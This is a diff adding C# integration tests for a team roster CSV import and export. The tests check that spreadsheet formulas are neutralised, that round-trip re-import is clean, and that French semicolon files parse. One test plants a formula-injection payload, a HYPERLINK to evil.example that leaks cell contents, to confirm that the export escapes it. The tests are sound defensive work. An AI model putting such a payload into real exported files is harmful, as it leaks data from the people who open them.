@@ -1,6 +1,7 @@
 using System.Net;
 using System.Text;
 using System.Text.Json;
+using AlfaPlatform.Server.Tests.Collaborations;
 using AlfaPlatform.Server.Tests.Fixtures;
 
 namespace AlfaPlatform.Server.Tests.Teams;
@@ -97,5 +98,116 @@ public sealed class RosterImportTests(PlatformFixture platform)
         Assert.Equal(HttpStatusCode.Forbidden, (await ImportAsync(team, "roster.csv", member)).StatusCode);
         Assert.Equal(HttpStatusCode.Forbidden, (await member.GetAsync($"/api/teams/{team}/members.csv")).StatusCode);
         Assert.Equal(HttpStatusCode.UnsupportedMediaType, (await platform.Client.SendJsonAsync(HttpMethod.Post, $"/api/teams/{team}/members/import", new { })).StatusCode);
+    }
+
+    [Fact]
+    public async Task the_roster_export_neutralises_spreadsheet_formulas_and_starts_with_a_byte_order_mark()
+    {
+        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
+        var team = await platform.Client.CreateTeamAsync(organisation.Id);
+        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        var lead = await RegisterAsync(formula, "+Porter");
+        await platform.Client.AddMemberAsync(team, lead, "Lead", "2024-01-01").ExpectAsync(HttpStatusCode.OK);
+        var member = await platform.Client.RegisterPersonAsync("Tab", "Member");
+        await platform.Client.SendJsonAsync(HttpMethod.Post, $"/api/teams/{team}/members", new { personId = member, role = "Other", roleLabel = "@SUM(1)", on = "2024-02-01" })
+            .ExpectAsync(HttpStatusCode.OK);
+
+        var bytes = await (await platform.Client.GetAsync($"/api/teams/{team}/members.csv")).Content.ReadAsByteArrayAsync();
+        var csv = Encoding.UTF8.GetString(bytes);
+
+        Assert.Equal([0xEF, 0xBB, 0xBF], bytes.Take(3));
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\",'+Porter,Lead,", csv, StringComparison.Ordinal);
+        Assert.Contains(",Other,'@SUM(1),2024-02-01,", csv, StringComparison.Ordinal);
+        var cells = csv.TrimStart('\uFEFF').Split("\r\n").SelectMany(line => line.Split(',')).Select(cell => cell.TrimStart('"'));
+        Assert.DoesNotContain(cells, cell => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
+    }
+
+    [Fact]
+    public async Task an_exported_roster_with_formulas_and_former_members_imports_back_unchanged_and_changes_nothing()
+    {
+        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
+        var team = await platform.Client.CreateTeamAsync(organisation.Id);
+        var lead = await RegisterAsync("=1+1", "-Lead");
+        await platform.Client.AddMemberAsync(team, lead, "Lead", "2024-01-01").ExpectAsync(HttpStatusCode.OK);
+        var former = await platform.Client.RegisterPersonAsync("Fern", "Former");
+        await platform.Client.AddMemberAsync(team, former, "Biologist", "2024-02-01").ExpectAsync(HttpStatusCode.OK);
+        await platform.Client.SendJsonAsync(HttpMethod.Post, $"/api/teams/{team}/members/{former}/leave", new { on = "2024-06-30" }).ExpectAsync(HttpStatusCode.OK);
+        var rosterBefore = (await platform.Client.GetAsync($"/api/teams/{team}/members").OkJsonAsync()).GetRawText();
+        var exported = await (await platform.Client.GetAsync($"/api/teams/{team}/members.csv")).Content.ReadAsByteArrayAsync();
+        var before = await platform.CountEventsAsync();
+
+        var content = new ByteArrayContent(exported);
+        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("text/csv");
+        var reimported = await platform.Client.PostAsync($"/api/teams/{team}/members/import", content).OkJsonAsync();
+
+        Assert.Equal((0, 0, 0, 2), (reimported.GetProperty("peopleRegistered").GetInt32(), reimported.GetProperty("membersAdded").GetInt32(),
+            reimported.GetProperty("departuresRecorded").GetInt32(), reimported.GetProperty("unchanged").GetInt32()));
+        Assert.Equal(before, await platform.CountEventsAsync());
+        Assert.Equal(rosterBefore, (await platform.Client.GetAsync($"/api/teams/{team}/members").OkJsonAsync()).GetRawText());
+        var names = (await platform.Client.GetAsync($"/api/people/{lead}").OkJsonAsync());
+        Assert.Equal(("=1+1", "-Lead"), (names.GetProperty("givenName").GetString(), names.GetProperty("familyName").GetString()));
+    }
+
+    [Fact]
+    public async Task left_on_in_an_imported_roster_records_the_departure_once()
+    {
+        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
+        var team = await platform.Client.CreateTeamAsync(organisation.Id);
+        var file = $"""
+            email,given_name,family_name,role,role_label,joined_on,left_on
+            lea.{team:N}@example.org,Léa,Lead,Lead,,2023-01-01,
+            paul.{team:N}@example.org,Paul,Past,PostDoc,,2023-03-01,2024-03-31
+            paul.{team:N}@example.org,Paul,Past,Engineer,,2024-06-01,
+            """;
+
+        var first = await ImportTextAsync(team, file).OkJsonAsync();
+        var again = await ImportTextAsync(team, file).OkJsonAsync();
+
+        Assert.Equal((2, 3, 1, 0), (first.GetProperty("peopleRegistered").GetInt32(), first.GetProperty("membersAdded").GetInt32(),
+            first.GetProperty("departuresRecorded").GetInt32(), first.GetProperty("unchanged").GetInt32()));
+        Assert.Equal((0, 0, 0, 3), (again.GetProperty("peopleRegistered").GetInt32(), again.GetProperty("membersAdded").GetInt32(),
+            again.GetProperty("departuresRecorded").GetInt32(), again.GetProperty("unchanged").GetInt32()));
+        var members = (await platform.Client.GetAsync($"/api/teams/{team}/members").OkJsonAsync()).GetProperty("members").EnumerateArray()
+            .Select(m => $"{m.GetProperty("name").GetString()}|{m.GetProperty("role").GetString()}|{m.GetProperty("joinedOn").GetString()}|{m.GetProperty("leftOn").GetString()}")
+            .Order()
+            .ToList();
+        Assert.Equal(["Léa Lead|Lead|2023-01-01|", "Paul Past|Engineer|2024-06-01|", "Paul Past|PostDoc|2023-03-01|2024-03-31"], members);
+    }
+
+    [Fact]
+    public async Task a_semicolon_separated_roster_saved_by_a_french_spreadsheet_is_imported()
+    {
+        var organisation = await platform.Client.RegisterOrganisationAsync(kind: "ResearchTeam");
+        var team = await platform.Client.CreateTeamAsync(organisation.Id);
+        // What a French-locale spreadsheet writes: ';' between fields, day-first dates, Windows-1252 text, no BOM, and
+        // formatted empty rows as bare separators.
+        var file = $""""
+            email;given_name;family_name;role;role_label;joined_on
+            helene.{team:N}@example.org;Hélène;Le Cœur, Jr;Lead;;01/09/2023
+            remi.{team:N}@example.org;Rémi;"Durand; dit ""Rémi""";Other;Curateur, biobanque;15/01/2024
+            ;;;;;
+            """";
+        var content = new ByteArrayContent(CodePagesEncodingProvider.Instance.GetEncoding(1252)!.GetBytes(file));
+        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("text/csv");
+
+        var imported = await platform.Client.PostAsync($"/api/teams/{team}/members/import", content).OkJsonAsync();
+
+        Assert.Equal(2, imported.GetProperty("membersAdded").GetInt32());
+        var members = (await platform.Client.GetAsync($"/api/teams/{team}/members").OkJsonAsync()).GetProperty("members").EnumerateArray()
+            .Select(m => $"{m.GetProperty("name").GetString()}|{m.GetProperty("role").GetString()}|{m.GetProperty("roleLabel").GetString()}|{m.GetProperty("joinedOn").GetString()}")
+            .ToList();
+        Assert.Equal(["Hélène Le Cœur, Jr|Lead||2023-09-01", "Rémi Durand; dit \"Rémi\"|Other|Curateur, biobanque|2024-01-15"], members);
+    }
+
+    private Task<HttpResponseMessage> ImportTextAsync(Guid team, string csv) =>
+        platform.Client.PostAsync($"/api/teams/{team}/members/import", new StringContent(csv, Encoding.UTF8, "text/csv"));
+
+    private async Task<Guid> RegisterAsync(string given, string family)
+    {
+        var response = await platform.Client.SendJsonAsync(HttpMethod.Post, "/api/people", new
+        {
+            givenName = given, familyName = family, email = $"formula.{Guid.NewGuid():N}@example.org",
+        }).ExpectAsync(HttpStatusCode.Created);
+        return (await response.ReadAsync<JsonElement>()).GetProperty("id").GetGuid();
     }
 }
